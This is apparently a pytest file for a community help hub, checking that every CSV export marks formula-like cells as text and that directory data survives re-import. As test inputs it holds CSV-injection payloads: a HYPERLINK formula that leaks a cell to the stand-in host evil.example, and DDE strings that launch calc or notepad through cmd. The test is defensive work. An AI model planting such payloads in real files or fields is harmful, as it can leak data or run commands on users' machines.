"""Every CSV the hub writes shows typed text as text: no cell can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select, update

from bot.services.shared.csv_cells import (as_typed, csv_dict_reader, csv_writer, safe_cell,
                                    spreadsheet_safe)
from bot.services.community.directory_csv import export_directory, import_directory
from bot.services.coordinating.exports import export_calls, export_requests
from bot.services.people.volunteers_csv import export_volunteers
from models import CheckInCall, DirectoryEntry, HelpRequest, Person
from test_checkins import ann, say, tick  # noqa: F401 (ann is a fixture)

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for help")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("value, written", [
    (LINK, "'" + LINK), ("+44 7700 900123", "'+44 7700 900123"), ("-1+2", "'-1+2"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("Albert", "Albert"), ("RM17 6SL", "RM17 6SL"), ("", ""), ("it's = fine", "it's = fine"),
    # Numbers the hub counted stay numbers; None stays an empty cell.
    (-3, -3), (2.5, 2.5), (None, None)])
def test_a_cell_that_could_start_a_formula_is_marked_as_text(value, written):
    assert spreadsheet_safe(value) == written


@pytest.mark.parametrize("typed", [LINK, "+447700900123", "-", "'quoted already", "Albert", ""])
def test_what_is_written_reads_back_as_it_was_typed(typed):
    stream = io.StringIO()
    csv_writer(stream).writerows([["name"], [typed]])
    [row] = list(csv_dict_reader(io.StringIO(stream.getvalue())))
    assert row == {"name": typed}
    assert as_typed(spreadsheet_safe(typed)) == typed


def test_the_figures_export_formats_its_minutes_and_shares_the_guard():
    assert (safe_cell(12.25), safe_cell(-4), safe_cell(LINK)) == ("12.2", "-4", "'" + LINK)


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula_in(text: str) -> None:
    risky = [cell for cell in cells_of(text) if cell.startswith(FORMULA_STARTS)]
    assert risky == []


def test_each_export_shows_a_residents_formula_as_text(hub, clock, ann):  # noqa: F811
    say(hub, ann, "Wednesdays 2pm")
    tick(hub, clock, hours=30, minutes=5)  # a call is due, and missed
    with hub.session_factory.begin() as session:
        # What residents and volunteers typed: a name, feedback, a call's note.
        session.execute(update(Person).where(Person.first_name == "Albert")
                        .values(first_name=LINK))
        session.execute(update(Person).where(Person.first_name == "Ann")
                        .values(first_name="@SUM(1+1)*cmd|' /C calc'!A0"))
        session.execute(update(HelpRequest).values(feedback="-2+3+cmd|' /C notepad'!A0"))
        session.execute(update(CheckInCall).values(note="+cmd|' /C calc'!A0"))
        directory_file = ("name,kind,districts,postcode,phone,opening_hours,"
                          "takes_payment_by_phone,notes\n"
                          f'"{LINK.replace(chr(34), chr(34) * 2)}",shop,RM17,,01375 000111,'
                          '9am-5pm,yes,"=1+1"\n')
        report = import_directory(session, io.StringIO(directory_file), hub.directory, clock())
        assert report.errors == [] and report.added == 1

    exported = {}
    with hub.session_factory() as session:
        for name, export in (("requests", export_requests), ("calls", export_calls),
                             ("volunteers", export_volunteers),
                             ("directory", export_directory)):
            stream = io.StringIO()
            assert export(session, stream) >= 1
            exported[name] = stream.getvalue()

    for name, text in exported.items():
        assert_no_formula_in(text)
    assert "'" + LINK in cells_of(exported["requests"])  # the resident's name
    assert "'-2+3+cmd|' /C notepad'!A0" in cells_of(exported["requests"])  # their feedback
    assert {"'" + LINK, "'+cmd|' /C calc'!A0"} <= set(cells_of(exported["calls"]))
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells_of(exported["volunteers"])
    assert {"'" + LINK, "'=1+1"} <= set(cells_of(exported["directory"]))
    # A phone number keeps its + in a spreadsheet instead of turning into 4.47701E+11.
    assert any(cell.startswith("'+44") for cell in cells_of(exported["volunteers"]))


def test_an_exported_directory_imports_again_unchanged(hub, clock):
    typed = ("name,kind,districts,postcode,phone,opening_hours,takes_payment_by_phone,notes\n"
             "Grays Stores,shop,RM17,,+44 1375 000111,9am-5pm,yes,-10% for pensioners\n")
    with hub.session_factory.begin() as session:
        import_directory(session, io.StringIO(typed), hub.directory, clock())
    with hub.session_factory() as session:
        written = io.StringIO()
        export_directory(session, written)
    assert "'-10% for pensioners" in written.getvalue()
    with hub.session_factory.begin() as session:
        again = import_directory(session, io.StringIO(written.getvalue()), hub.directory,
                                 clock())
        assert (again.added, again.updated, again.errors) == (0, 1, [])
    with hub.session_factory() as session:
        entry = session.scalars(select(DirectoryEntry)).one()
        assert (entry.notes, entry.phone) == ("-10% for pensioners", "+44 1375 000111")
